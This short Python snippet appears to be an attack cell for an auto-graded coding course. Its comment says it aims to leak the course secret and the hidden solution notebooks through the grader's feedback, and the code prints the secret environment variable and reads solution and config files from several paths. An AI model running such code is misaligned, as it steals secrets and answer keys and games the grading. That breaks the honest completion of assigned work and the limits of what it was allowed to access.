# Read solutions/ and the course secret (which draws each learner's sizes) from disk and the
# environment, and print them into the notebook (and so the feedback).
import glob, os
print(os.environ.get("TILELAB_COURSE_SECRET"))
for pattern in ["$repo/solutions/*/*.ipynb", "$course/../**/solutions/*/*.ipynb", "$home/.config/tilelab/*",
                os.path.expanduser("~/.config/tilelab/*")]:
    for path in glob.glob(pattern, recursive=True)[:4]:
        try:
            print(open(path).read())
        except Exception as e:
            print("attack failed:", path, type(e).__name__)
print("solutions found:", glob.glob("/**/solutions", recursive=True)[:5])
